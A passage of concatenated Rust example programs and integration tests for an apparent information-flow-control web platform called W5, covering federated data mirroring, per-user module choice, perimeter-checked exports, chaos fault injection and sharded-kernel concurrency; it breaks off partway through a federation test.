    publish(&p, "mal", "snoop", vec![]);
    p.install_app("mal/snoop", Arc::new(Snoop));
    let (s, _) = run(&p, &mallory, "mal/snoop", "x", &[]);
    println!("mallory's snoop app:           {s} (not 403 — 404: existence itself is protected)");
}
