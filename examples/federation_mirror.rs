//! Two W5 providers mirroring a linked user's data (paper §3.3), over
//! real loopback TCP.
//!
//! ```sh
//! cargo run -p w5-examples --example federation_mirror
//! ```

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_platform::Platform;
use w5_store::Subject;

fn main() {
    const TOKEN: &str = "demo-peering-secret";

    // Two independent providers: separate tag registries, separate
    // accounts, separate everything.
    let a = Platform::new_default("provider-a");
    let b = Platform::new_default("provider-b");
    let bob_a = a.accounts.register("bob", "pw").unwrap();
    let bob_b = b.accounts.register("bob", "pw").unwrap();
    println!("bob@provider-a export tag: {}", bob_a.export_tag);
    println!("bob@provider-b export tag: {} (different tag space)", bob_b.export_tag);

    // Bob uploads a photo on A.
    let subject_a = Subject::new(
        w5_difc::LabelPair::public(),
        a.registry.effective(&bob_a.owner_caps),
    );
    a.fs.create(&subject_a, "/photos/bob/cat.img", bob_a.data_labels(), Bytes::from_static(b"MEOW-V1"))
        .unwrap();

    // Each provider exposes a federation endpoint to its peer.
    let svc_a = FederationService::new(Arc::clone(&a), TOKEN);
    let server_a = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc_a)).unwrap();
    println!("\nprovider-a federation endpoint: {}", server_a.addr());

    let agent_b = SyncAgent::new(Arc::clone(&b), TOKEN);
    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };

    // Without Bob's grant, provider A refuses its own peer.
    match agent_b.pull(server_a.addr(), &link) {
        Err(e) => println!("pull without opt-in: refused ({e})"),
        Ok(_) => unreachable!("must refuse"),
    }

    // Bob grants the import/export declassifier on A; one pull mirrors.
    opt_in(&a, bob_a.id);
    let report = agent_b.pull(server_a.addr(), &link).unwrap();
    println!("pull after opt-in: {report:?}");

    // The mirrored file exists on B, under B's labels.
    let subject_b = Subject::new(
        w5_difc::LabelPair::public(),
        b.registry.effective(&bob_b.owner_caps),
    );
    let (data, labels) = b.fs.read(&subject_b, "/photos/bob/cat.img").unwrap();
    println!(
        "mirrored on b: {:?}, secrecy carries bob@b's tag: {}",
        std::str::from_utf8(&data).unwrap(),
        labels.secrecy.contains(bob_b.export_tag)
    );

    // An update on A propagates on the next pull; a no-op pull converges.
    a.fs.write(&subject_a, "/photos/bob/cat.img", Bytes::from_static(b"MEOW-V2")).unwrap();
    println!("after update: {:?}", agent_b.pull(server_a.addr(), &link).unwrap());
    println!("converged:    {:?}", agent_b.pull(server_a.addr(), &link).unwrap());

    server_a.shutdown();
}
