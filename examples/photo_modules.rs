//! Fine-grained competition between software modules (paper §1–§2):
//! "select his favorite photo cropping module from a set contributed by
//! independent developers, just as many people exert choice over their
//! text editor" — plus forking an application and pinning a version.
//!
//! ```sh
//! cargo run -p w5-examples --example photo_modules
//! ```

use bytes::Bytes;
use w5_apps::image::Image;
use w5_platform::{Account, Platform};

fn crop(p: &std::sync::Arc<Platform>, user: &Account) -> Image {
    let req = Platform::make_request(
        "GET",
        "crop",
        &[("user", user.username.as_str()), ("name", "card"), ("w", "4"), ("h", "4")],
        Some(user),
        Bytes::new(),
    );
    let r = p.invoke(Some(user), "devA/photos", req);
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
    Image::decode(&r.body).unwrap()
}

fn main() {
    let p = Platform::new_default("modules-demo");
    w5_apps::install_all(&p);
    let bob = p.accounts.register("bob", "pw").unwrap();
    p.policies.delegate_write(bob.id, "devA/photos");

    // Upload a 10x10 gradient test card.
    let req = Platform::make_request(
        "POST",
        "upload",
        &[("name", "card"), ("w", "10"), ("h", "10")],
        Some(&bob),
        Bytes::new(),
    );
    assert_eq!(p.invoke(Some(&bob), "devA/photos", req).status, 200);

    // The catalog offers two crop modules for the same slot.
    println!("modules offered for devA/photos#crop:");
    for m in p.apps.modules_for("devA/photos", "crop") {
        println!("  {} — {}", m.developer, m.description);
    }

    // Default: developer A's top-left cropper.
    let img = crop(&p, &bob);
    println!("\ndefault (devA, top-left):  first pixel = {}", img.get(0, 0));

    // One policy action switches Bob to developer B's centered cropper.
    // Identical app, identical data, different module — per user.
    p.policies.choose_module(bob.id, "devA/photos", "crop", "devB");
    let img = crop(&p, &bob);
    println!("after choosing devB:       first pixel = {} (centered crop)", img.get(0, 0));

    // Another user keeps the default, unaffected by Bob's choice.
    let alice = p.accounts.register("alice", "pw").unwrap();
    p.policies.delegate_write(alice.id, "devA/photos");
    let req = Platform::make_request(
        "POST",
        "upload",
        &[("name", "card"), ("w", "10"), ("h", "10")],
        Some(&alice),
        Bytes::new(),
    );
    assert_eq!(p.invoke(Some(&alice), "devA/photos", req).status, 200);
    let img = crop(&p, &alice);
    println!("alice (still devA):        first pixel = {}", img.get(0, 0));

    // Forking: devZ forks the whole photos app and instantly has a user
    // pool — anyone can switch by enrolling.
    let fork = p.apps.fork("devA/photos", "devZ", "photos, but cooler").unwrap();
    println!("\nforked: {} v{} (from {})", fork.key(), fork.version, fork.forked_from.unwrap());

    // Version pinning: publish v2, Bob pins v1.
    let mut v2 = p.apps.latest("devA/photos").unwrap();
    v2.version = 2;
    v2.description = "photos v2 (new and questionable)".into();
    p.apps.publish(v2).unwrap();
    p.policies.pin_version(bob.id, "devA/photos", 1);
    println!(
        "bob resolves devA/photos to v{} (pinned); alice gets v{}",
        p.resolve_manifest(Some(&bob), "devA/photos").unwrap().version,
        p.resolve_manifest(Some(&alice), "devA/photos").unwrap().version,
    );
}
