//! Quickstart: boot a W5 provider, serve it over HTTP, sign up a user,
//! store a private note through an untrusted app, and watch the export
//! perimeter do its job.
//!
//! ```sh
//! cargo run -p w5-examples --example quickstart
//! ```

use std::sync::Arc;
use w5_net::{HttpClient, Server, ServerConfig};
use w5_platform::{Gateway, Platform, SESSION_COOKIE};

fn main() {
    // 1. Boot a provider: tag registry, DIFC kernel, labeled storage,
    //    accounts, declassifier catalog, perimeter — one call.
    let platform = Platform::new_default("quickstart-provider");
    w5_apps::install_all(&platform);

    // 2. Put the HTTP front end on a real socket. Any of "today's Web
    //    clients" can talk to it; we use the bundled client.
    let gateway = Gateway::new(Arc::clone(&platform));
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(gateway)).unwrap();
    let addr = server.addr();
    println!("provider listening on http://{addr}");

    let client = HttpClient::new();

    // 3. Bob signs up (one account, for every app on the platform).
    let resp = client
        .post(addr, "/signup", "application/x-www-form-urlencoded", b"user=bob&password=hunter2")
        .unwrap();
    let cookie = w5_platform::session_cookie_of(&resp).expect("session cookie");
    let bob_cookie = format!("{}={}", SESSION_COOKIE, cookie.value);
    let auth = [("cookie", bob_cookie.as_str())];
    println!("signed up bob → session cookie {}…", &cookie.value[..8]);

    // 4. Bob lets the blog app write on his behalf (exercise his w_bob+),
    //    then posts. The post rows carry S={e_bob}, I={w_bob}.
    client
        .post_with_headers(addr, "/policy/delegate-write", "application/x-www-form-urlencoded",
            b"app=devB/blog", &auth)
        .unwrap();
    let resp = client
        .post_with_headers(addr, "/app/devB/blog/post", "application/x-www-form-urlencoded",
            b"title=hello&body=my+private+thoughts", &auth)
        .unwrap();
    println!("bob posts: {} {}", resp.status.0, resp.body_string().trim());

    // 5. Bob reads it back — his own export tag clears at the perimeter.
    let resp = client
        .get_with_headers(addr, "/app/devB/blog/read?user=bob&title=hello", &auth)
        .unwrap();
    println!("bob reads his blog: {} ({} bytes)", resp.status.0, resp.body.len());

    // 6. An anonymous visitor tries the same URL: the app runs, reads the
    //    data, renders the page — and the perimeter refuses to export it.
    let resp = client.get(addr, "/app/devB/blog/read?user=bob&title=hello").unwrap();
    println!("anonymous visitor: {} ({})", resp.status.0, resp.body_string().trim());

    // 7. Bob flips one policy switch — "public-read for my blog" — and the
    //    same request succeeds. No application code changed.
    client
        .post_with_headers(addr, "/policy/grant", "application/x-www-form-urlencoded",
            b"declassifier=public-read&app=devB/blog", &auth)
        .unwrap();
    let resp = client.get(addr, "/app/devB/blog/read?user=bob&title=hello").unwrap();
    println!("after public-read grant: {} ({} bytes)", resp.status.0, resp.body.len());

    let (checked, blocked, calls) = platform.exporter.stats();
    println!("\nperimeter: {checked} exports checked, {blocked} blocked, {calls} declassifier consultations");
    server.shutdown();
}
