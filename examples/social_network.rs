//! The paper's §2 social scenario, end to end: profiles, friends-only
//! declassification, a commingled feed, the recommendation digest over
//! private data, and the chameleon profile.
//!
//! ```sh
//! cargo run -p w5-examples --example social_network
//! ```

use bytes::Bytes;
use w5_platform::{Account, GrantScope, Platform};

fn invoke(
    p: &std::sync::Arc<Platform>,
    viewer: &Account,
    app: &str,
    method: &str,
    action: &str,
    params: &[(&str, &str)],
) -> (u16, String) {
    let req = Platform::make_request(method, action, params, Some(viewer), Bytes::new());
    let r = p.invoke(Some(viewer), app, req);
    (r.status, String::from_utf8_lossy(&r.body).into_owned())
}

fn main() {
    let p = Platform::new_default("social-demo");
    w5_apps::install_all(&p);

    // Three users; bob ↔ alice friends, carol is bob's love interest.
    let bob = p.accounts.register("bob", "pw").unwrap();
    let alice = p.accounts.register("alice", "pw").unwrap();
    let carol = p.accounts.register("carol", "pw").unwrap();
    for u in [&bob, &alice, &carol] {
        for app in ["devC/social", "devB/blog", "devD/recommender"] {
            p.policies.delegate_write(u.id, app);
        }
    }
    p.add_friend("bob", "alice");
    p.add_friend("alice", "bob");

    // Bob's chameleon profile: scifi hidden from carol.
    let (s, _) = invoke(&p, &bob, "devC/social", "POST", "set_profile", &[
        ("bio", "hi, I am bob"),
        ("interests", "scifi,cooking,chess"),
        ("hide", "scifi:carol"),
    ]);
    println!("bob sets chameleon profile: {s}");
    p.policies.grant_declassifier(bob.id, "public-read", GrantScope::App("devC/social".into()));

    for viewer in [&alice, &carol] {
        let (s, body) = invoke(&p, viewer, "devC/social", "GET", "view", &[("user", "bob")]);
        let scifi = if body.contains("scifi") { "sees scifi" } else { "scifi hidden" };
        println!("{} views bob's profile: {s} → {scifi}", viewer.username);
    }

    // Alice posts privately; bob's digest needs her friends-only grant.
    for (t, b) in [("jazz night", "a long post about jazz"), ("groceries", "a post about chores")] {
        let (s, _) = invoke(&p, &alice, "devB/blog", "POST", "post", &[("title", t), ("body", b)]);
        assert_eq!(s, 200);
    }
    let (s, _) = invoke(&p, &bob, "devD/recommender", "POST", "prefs", &[("keywords", "jazz")]);
    assert_eq!(s, 200);

    let (s, _) = invoke(&p, &bob, "devD/recommender", "GET", "digest", &[("n", "3")]);
    println!("bob's digest before alice grants: {s} (blocked — her tag is on it)");

    p.policies.grant_declassifier(alice.id, "friends-only", GrantScope::AllApps);
    let (s, body) = invoke(&p, &bob, "devD/recommender", "GET", "digest", &[("n", "3")]);
    println!("bob's digest after the grant:    {s}");
    for line in body.lines().filter(|l| l.contains("<li>")) {
        println!("   {}", line.trim());
    }

    // Carol (not alice's friend) still cannot pull alice's posts, even
    // through a different app: the grant travels with the *data*.
    let (s, _) = invoke(&p, &carol, "devB/blog", "GET", "read", &[("user", "alice"), ("title", "jazz night")]);
    println!("carol reads alice's post:        {s} (not her friend)");

    let (checked, blocked, _) = p.exporter.stats();
    println!("\nperimeter: {checked} checks, {blocked} blocked");
}
