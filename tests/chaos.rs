//! End-to-end chaos: the seeded fault-injection harness run as a tier-1
//! integration test.
//!
//! Three claims, each load-bearing for the whole `w5-chaos` subsystem:
//!
//! 1. **Replay** — the same `ChaosSpec` produces a bit-identical
//!    `ChaosOutcome` (same obs-ledger digest, same fault tallies, same
//!    response counts). Every failure the harness can find is therefore
//!    reproducible from its seed alone.
//! 2. **Noninterference under faults** — across the matrix, no injected
//!    fault ever turns a refusal into a disclosure: zero violations.
//! 3. **Federation rides out the weather** — partitions and reordered
//!    sync batches delay mirroring but never corrupt it; the mirrored
//!    state converges to exactly what a fault-free sync produces.

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_platform::Platform;
use w5_sim::{run_chaos, ChaosSpec};
use w5_store::Subject;

#[test]
fn chaos_matrix_replays_bit_identically() {
    for seed in [1u64, 42, 20070824] {
        let spec = ChaosSpec { seed, steps: 300, fault_rate: 0.08 };
        let first = run_chaos(&spec);
        let second = run_chaos(&spec);
        assert_eq!(first, second, "seed {seed}: fault schedule must replay bit-identically");
        assert!(
            first.violations.is_empty(),
            "seed {seed}: invariant violations under faults: {:?}",
            first.violations
        );
        assert!(
            first.faults.total_injected() > 0,
            "seed {seed}: the storm never fired — the harness tested nothing"
        );
        assert!(first.delivered > 0 && first.blocked > 0, "seed {seed}: workload too one-sided");
    }
}

#[test]
fn storm_rate_changes_the_run_but_not_the_verdict() {
    // Heavier weather: more degradation, still zero violations.
    let calm = run_chaos(&ChaosSpec { seed: 9, steps: 300, fault_rate: 0.0 });
    let storm = run_chaos(&ChaosSpec { seed: 9, steps: 300, fault_rate: 0.25 });
    assert_eq!(calm.degraded, 0);
    assert!(storm.degraded > calm.degraded);
    assert!(calm.violations.is_empty(), "{:?}", calm.violations);
    assert!(storm.violations.is_empty(), "{:?}", storm.violations);
    assert_ne!(calm.digest, storm.digest, "faults must be visible in the event stream");
}

mod chaos_properties {
    //! The replay and noninterference claims as *properties*: proptest
    //! generates the fault schedule's shape (seed, workload length,
    //! storm rate) and every generated schedule must replay identically
    //! and uphold every invariant.
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_fault_schedule_replays_and_never_leaks(
            seed in any::<u64>(),
            steps in 30u32..100,
            rate_pct in 0u32..30,
        ) {
            let spec = ChaosSpec { seed, steps, fault_rate: rate_pct as f64 / 100.0 };
            let first = run_chaos(&spec);
            prop_assert!(
                first.violations.is_empty(),
                "seed {seed} steps {steps} rate {rate_pct}%: {:?}",
                first.violations
            );
            let second = run_chaos(&spec);
            prop_assert_eq!(first, second);
        }
    }
}

const TOKEN: &str = "chaos-peer-token";

/// Build provider A holding `files` sentinel files for bob (opted in) and
/// a fresh provider B, and return both plus the running export server.
fn two_providers(files: usize) -> (Arc<Platform>, Arc<Platform>, w5_net::ServerHandle) {
    let a = Platform::new_default("provider-a");
    let b = Platform::new_default("provider-b");
    let bob_a = a.accounts.register("bob", "pw").unwrap();
    b.accounts.register("bob", "pw").unwrap();
    opt_in(&a, bob_a.id);
    let subject =
        Subject::new(w5_difc::LabelPair::public(), a.registry.effective(&bob_a.owner_caps));
    for i in 0..files {
        a.fs.create(
            &subject,
            &format!("/photos/bob/img{i}"),
            bob_a.data_labels(),
            Bytes::from(format!("PAYLOAD-{i}")),
        )
        .unwrap();
    }
    let svc = FederationService::new(Arc::clone(&a), TOKEN);
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
    (a, b, server)
}

fn mirrored_state(p: &Platform, files: usize) -> Vec<(String, Bytes)> {
    let bob = p.accounts.get_by_name("bob").unwrap();
    let subject =
        Subject::new(w5_difc::LabelPair::public(), p.registry.effective(&bob.owner_caps));
    (0..files)
        .map(|i| {
            let path = format!("/photos/bob/img{i}");
            let (data, _) = p.fs.read(&subject, &path).unwrap();
            (path, data)
        })
        .collect()
}

#[test]
fn federation_survives_partitions_and_reordered_batches() {
    const FILES: usize = 8;

    // Reference: a fault-free mirror.
    let (_a0, b0, server0) = two_providers(FILES);
    let agent0 = SyncAgent::new(Arc::clone(&b0), TOKEN);
    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };
    agent0.pull(server0.addr(), &link).unwrap();
    let want = mirrored_state(&b0, FILES);
    server0.shutdown();

    // Stormy run: partitions, reordered batches, torn local writes.
    let (_a, b, server) = two_providers(FILES);
    let agent = SyncAgent::new(Arc::clone(&b), TOKEN);
    let plan = w5_chaos::FaultPlan::new(4242)
        .with(w5_chaos::Site::FedPartition, 0.4)
        .with(w5_chaos::Site::FedReorder, 0.5)
        .with(w5_chaos::Site::FsWrite, 0.2);
    let inj = w5_chaos::Injector::new(plan);
    let guard = w5_chaos::with_injector(Arc::clone(&inj));
    let report = agent
        .pull_with_retry(server.addr(), &link, 16, std::time::Duration::ZERO)
        .expect("sync must eventually ride out transient faults");
    drop(guard);
    server.shutdown();

    assert_eq!(report.created, FILES, "every file mirrored exactly once: {report:?}");
    assert_eq!(mirrored_state(&b, FILES), want, "stormy mirror must converge to the calm one");
    let tallies = inj.report();
    assert!(tallies.total_injected() > 0, "the storm never fired");
}

#[test]
fn partitioned_sync_fails_typed_and_transient() {
    let (_a, b, server) = two_providers(1);
    let agent = SyncAgent::new(Arc::clone(&b), TOKEN);
    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };
    let inj = w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(1).with(w5_chaos::Site::FedPartition, 1.0),
    );
    let guard = w5_chaos::with_injector(Arc::clone(&inj));
    let err = agent.pull(server.addr(), &link).unwrap_err();
    drop(guard);
    server.shutdown();
    assert_eq!(err, w5_federation::SyncError::Partitioned);
    assert!(err.is_transient());
}
