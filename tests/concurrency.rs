//! The sharded kernel against its single-lock reference, under real
//! thread interleavings — the tier-1 face of `w5_sim::concurrency`.
//!
//! Four claims:
//!
//! 1. **Differential equivalence** (property) — for any seeded schedule
//!    (2–8 threads, mixed send/spawn/taint/declass/cap traffic, with or
//!    without a `w5-chaos` fault storm), the sharded kernel's final
//!    observable state — labels, capability bags, mailbox depths,
//!    counters, ledger aggregates, per-thread fault tallies — is
//!    identical to the single-lock reference kernel's, concurrently and
//!    serially.
//! 2. **Lock ordering** (unit) — the two-shard ordered locking path
//!    cannot deadlock: opposite-direction cross-shard sends, self-sends
//!    and spawns into foreign shards all complete under contention.
//! 3. **No lost taint** — a taint applied through one shard is visible
//!    to every subsequent send through another shard; concurrency never
//!    launders a label.
//! 4. **Digest regression** — for fixed seeds, the serial replay digest
//!    of the private obs ledger is bit-identical between the reference
//!    and sharded kernels (they emit the same event stream, not merely
//!    the same counts), and the platform-level `ChaosOutcome` digest
//!    still replays bit-identically on top of the sharded kernel.
//!
//! Seeding is explicit everywhere: outcomes depend only on the specs
//! below, never on `RUST_TEST_THREADS` or scheduler timing.

use bytes::Bytes;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Barrier};
use std::thread;
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_kernel::{Delivery, Kernel, ProcessId, ResourceLimits, SpawnSpec};
use w5_sim::concurrency::{
    assert_differential, run_reference_serial, run_sharded_concurrent, run_sharded_serial,
    ConcSpec,
};
use w5_sim::{run_chaos, ChaosSpec};

fn mk(k: &Kernel, name: &str) -> ProcessId {
    k.create_process(name, LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited())
}

// ---- 1. differential equivalence ----

#[test]
fn differential_fixed_seeds_calm_and_stormy() {
    for (seed, threads, rate) in
        [(1u64, 2usize, 0.0), (42, 4, 0.05), (20070824, 8, 0.10)]
    {
        assert_differential(&ConcSpec {
            seed,
            threads,
            ops_per_thread: 200,
            fault_rate: rate,
            shards: 16,
        });
    }
}

#[test]
fn differential_survives_degenerate_shard_counts() {
    // 1 shard (every pair same-shard) and 64 shards (nearly every pair
    // cross-shard) must behave identically to the reference too.
    for shards in [1usize, 2, 64] {
        assert_differential(&ConcSpec {
            seed: 7,
            threads: 4,
            ops_per_thread: 120,
            fault_rate: 0.05,
            shards,
        });
    }
}

mod properties {
    //! Random schedules: proptest picks the shape, every shape must
    //! agree across all four arms — including under fault storms.
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_schedule_agrees_across_kernels(
            seed in any::<u64>(),
            threads in 2usize..=8,
            ops in 30usize..120,
            rate_pct in 0u32..25,
            shards in prop_oneof![Just(1usize), Just(4), Just(16), Just(64)],
        ) {
            assert_differential(&ConcSpec {
                seed,
                threads,
                ops_per_thread: ops,
                fault_rate: rate_pct as f64 / 100.0,
                shards,
            });
        }
    }
}

// ---- 2. lock-ordering / deadlock freedom ----

/// Two pids in *different* shards of a 2-shard kernel, for exercising
/// both lock-acquisition orders.
fn cross_shard_pair(k: &Kernel) -> (ProcessId, ProcessId) {
    let a = mk(k, "a");
    let b = mk(k, "b");
    assert_ne!(a.0 % 2, b.0 % 2, "consecutive pids land in different shards of 2");
    (a, b)
}

#[test]
fn opposite_direction_cross_shard_sends_never_deadlock() {
    // Thread 1 sends a→b (locks shard(a) then shard(b) by index order),
    // thread 2 sends b→a (same index order, opposite roles). Unordered
    // locking would deadlock here almost immediately.
    let k = Kernel::with_shards(2, Arc::new(TagRegistry::new()));
    let (a, b) = cross_shard_pair(&k);
    const N: usize = 5_000;
    let barrier = Barrier::new(2);
    thread::scope(|s| {
        let k1 = k.clone();
        let k2 = k.clone();
        let b1 = &barrier;
        s.spawn(move || {
            b1.wait();
            for _ in 0..N {
                k1.send_strict(a, b, Bytes::from_static(b"->"), CapSet::empty()).unwrap();
            }
        });
        let b2 = &barrier;
        s.spawn(move || {
            b2.wait();
            for _ in 0..N {
                k2.send_strict(b, a, Bytes::from_static(b"<-"), CapSet::empty()).unwrap();
            }
        });
    });
    assert_eq!(k.stats().sends_checked, 2 * N as u64);
    assert_eq!(k.process_info(a).unwrap().mailbox_len, N);
    assert_eq!(k.process_info(b).unwrap().mailbox_len, N);
}

#[test]
fn self_send_takes_single_shard() {
    let k = Kernel::with_shards(2, Arc::new(TagRegistry::new()));
    let a = mk(&k, "loop");
    for _ in 0..1_000 {
        k.send_strict(a, a, Bytes::from_static(b"echo"), CapSet::empty()).unwrap();
    }
    assert_eq!(k.process_info(a).unwrap().mailbox_len, 1_000);
}

#[test]
fn concurrent_spawns_into_foreign_shards() {
    // Parents spawn children whose pids stripe across every shard while
    // cross-shard sends run; spawn drops the parent guard before taking
    // the child's shard, so this must complete without deadlock and
    // every parent link must be intact.
    let k = Kernel::with_shards(4, Arc::new(TagRegistry::new()));
    let parents: Vec<ProcessId> = (0..4).map(|i| mk(&k, &format!("p{i}"))).collect();
    const SPAWNS: usize = 400;
    thread::scope(|s| {
        for &parent in &parents {
            let k = k.clone();
            s.spawn(move || {
                for i in 0..SPAWNS {
                    let child = k
                        .spawn(
                            parent,
                            SpawnSpec {
                                name: format!("c{}-{i}", parent.0),
                                labels: LabelPair::public(),
                                grant: CapSet::empty(),
                                limits: ResourceLimits::sandbox_default(),
                            },
                        )
                        .unwrap();
                    assert_eq!(k.process_info(child).unwrap().parent, Some(parent));
                }
            });
        }
        let k2 = k.clone();
        let (a, b) = (parents[0], parents[1]);
        s.spawn(move || {
            for _ in 0..2_000 {
                k2.send_strict(a, b, Bytes::from_static(b"x"), CapSet::empty()).unwrap();
            }
        });
    });
    assert_eq!(k.live_processes(), 4 + 4 * SPAWNS);
}

#[test]
fn exhaustive_two_shard_interleavings_stay_ordered() {
    // Every direction assignment of 2 and then 3 threads over one
    // 2-shard kernel, barrier-aligned per round so all threads enter
    // their cross-shard send at the same instant. A scoped lockdep
    // recorder watches every acquisition; the moment any thread takes
    // shard 0 while holding shard 1 the assertion below names the
    // inverted pair, the thread mask and the source line — no need to
    // wait for an actual deadlock to hang the suite.
    use w5_sync::lockdep;
    for threads in [2usize, 3] {
        for mask in 0u32..(1 << threads) {
            let rec = Arc::new(lockdep::Recorder::new());
            let k = Kernel::with_shards(2, Arc::new(TagRegistry::new()));
            let (a, b) = cross_shard_pair(&k);
            const ROUNDS: usize = 150;
            let barrier = Barrier::new(threads);
            thread::scope(|s| {
                for t in 0..threads {
                    let k = k.clone();
                    let rec = Arc::clone(&rec);
                    let barrier = &barrier;
                    // Bit t of the mask picks this thread's direction, so
                    // the loop covers all-same, all-opposed and every
                    // mixed assignment.
                    let (from, to) = if mask >> t & 1 == 0 { (a, b) } else { (b, a) };
                    s.spawn(move || {
                        let _rec = lockdep::scoped(rec);
                        for _ in 0..ROUNDS {
                            barrier.wait();
                            k.send_strict(from, to, Bytes::from_static(b"x"), CapSet::empty())
                                .unwrap();
                        }
                    });
                }
            });
            let run = rec.snapshot();
            assert!(
                run.same_class.iter().any(|e| e.class == "kernel.shard"),
                "threads={threads} mask={mask:#05b}: cross-shard sends must nest shard locks"
            );
            for ev in &run.same_class {
                if ev.class != "kernel.shard" {
                    continue;
                }
                assert!(
                    ev.acquired_index > ev.held_index,
                    "inverted acquisition: shard {} taken while holding shard {} \
                     (threads={threads}, mask={mask:#05b}, at {})",
                    ev.acquired_index,
                    ev.held_index,
                    ev.site,
                );
            }
        }
    }
}

// ---- 3. no lost taint across shards ----

#[test]
fn taint_applied_in_one_shard_is_seen_by_sends_from_another() {
    // One thread taints the sender (sender's shard lock); the main
    // thread keeps sending sender→sink (both shard locks). From the
    // moment the tainting thread observes its taint_for_read returned,
    // every *subsequent* send must be dropped — a delivered message
    // after that point would be a lost-taint race.
    for trial in 0..20u64 {
        let k = Kernel::with_shards(2, Arc::new(TagRegistry::new()));
        let owner = mk(&k, "owner");
        let sender = mk(&k, "sender");
        let sink = mk(&k, "sink");
        let e = k.create_tag(owner, TagKind::ExportProtect, &format!("t{trial}")).unwrap();
        let data = LabelPair::new(Label::singleton(e), Label::empty());
        let tainted = Arc::new(AtomicBool::new(false));

        thread::scope(|s| {
            let kt = k.clone();
            let flag = Arc::clone(&tainted);
            s.spawn(move || {
                // `sender` holds no e-: after this, public sinks are
                // unreachable from it, forever (nothing declassifies).
                kt.taint_for_read(sender, &data).unwrap();
                flag.store(true, Ordering::Release);
            });
            let mut saw_taint = false;
            loop {
                let taint_known = tainted.load(Ordering::Acquire);
                let d = k.send(sender, sink, Bytes::from_static(b"s"), CapSet::empty()).unwrap();
                if taint_known {
                    assert_eq!(
                        d,
                        Delivery::Dropped,
                        "trial {trial}: send delivered after taint was acknowledged"
                    );
                    if saw_taint {
                        break; // two post-taint sends verified
                    }
                    saw_taint = true;
                }
            }
        });
        assert_eq!(k.labels(sender).unwrap().secrecy, Label::singleton(e));
    }
}

// ---- 4. digest regressions ----

#[test]
fn serial_ledger_digest_identical_between_kernels() {
    // Stronger than equal aggregates: the reference and sharded kernels
    // must emit the *same event stream* (FNV digest over events, ring
    // order and counters) when driven serially by the same schedule.
    for seed in [1u64, 42, 1007, 20070824] {
        let spec = ConcSpec { seed, threads: 4, ops_per_thread: 250, fault_rate: 0.08, shards: 16 };
        let (ref_out, ref_digest) = run_reference_serial(&spec);
        let (shard_out, shard_digest) = run_sharded_serial(&spec);
        assert_eq!(ref_out, shard_out, "seed {seed}: serial outcomes diverged");
        assert_eq!(
            ref_digest, shard_digest,
            "seed {seed}: ledger digest changed under sharding"
        );
    }
}

#[test]
fn chaos_outcome_digest_replays_on_sharded_kernel() {
    // The platform now runs on the sharded kernel; the chaos harness's
    // whole-run FNV digest must still be a pure function of its seeds.
    let spec = ChaosSpec { seed: 22325, steps: 250, fault_rate: 0.08 };
    let first = run_chaos(&spec);
    let second = run_chaos(&spec);
    assert_eq!(first, second, "ChaosOutcome must replay bit-identically on the sharded kernel");
    assert!(first.violations.is_empty(), "{:?}", first.violations);
    assert!(first.faults.total_injected() > 0, "storm never fired");
}

#[test]
fn concurrent_outcome_independent_of_run_order() {
    // Same spec, run concurrently twice plus serially once: all equal.
    // Catches timing-dependence smuggled into the outcome type itself.
    let spec = ConcSpec { seed: 1007, threads: 6, ops_per_thread: 180, fault_rate: 0.06, shards: 16 };
    let a = run_sharded_concurrent(&spec);
    let b = run_sharded_concurrent(&spec);
    let (c, _) = run_sharded_serial(&spec);
    assert_eq!(a, b, "two concurrent runs of one spec diverged");
    assert_eq!(a, c, "concurrent run diverged from serial replay");
}
