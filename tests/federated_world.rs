//! Federation over a *populated* world: user content created through the
//! real applications mirrors across providers, and the mirrored data
//! behaves like native data on the destination (perimeter and all).

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_platform::{GrantScope, Platform};
use w5_sim::{build_population, PopulationConfig};

const TOKEN: &str = "integration-peer-token";

#[test]
fn app_created_content_mirrors_and_stays_protected() {
    // Provider A: a small populated world (photos made by the photo app).
    let world = build_population(
        Platform::new_default("provider-a"),
        PopulationConfig { users: 4, photos_per_user: 3, ..Default::default() },
    );
    let a = Arc::clone(&world.platform);

    // Provider B: fresh, with apps installed and matching usernames.
    let b = Platform::new_default("provider-b");
    w5_apps::install_all(&b);
    for account in &world.accounts {
        b.accounts.register(&account.username, "pw").unwrap();
    }

    // user0 opts into federation on A; the others do not.
    let u0 = &world.accounts[0];
    opt_in(&a, u0.id);

    let svc = FederationService::new(Arc::clone(&a), TOKEN);
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
    let agent = SyncAgent::new(Arc::clone(&b), TOKEN);

    let link = AccountLink { remote_user: u0.username.clone(), local_user: u0.username.clone() };
    let report = agent.pull(server.addr(), &link).unwrap();
    assert_eq!(report.created, 3, "all three app-made photos mirrored: {report:?}");

    // On B, the mirrored photos serve through B's own photo app for the
    // owner…
    let u0_b = b.accounts.get_by_name(&u0.username).unwrap();
    let req = Platform::make_request(
        "GET",
        "view",
        &[("user", u0.username.as_str()), ("name", "photo0")],
        Some(&u0_b),
        Bytes::new(),
    );
    assert_eq!(b.invoke(Some(&u0_b), "devA/photos", req).status, 200);

    // …and are still perimeter-protected against strangers on B.
    let stranger = b.accounts.register("stranger", "pw").unwrap();
    let req = Platform::make_request(
        "GET",
        "view",
        &[("user", u0.username.as_str()), ("name", "photo0")],
        Some(&stranger),
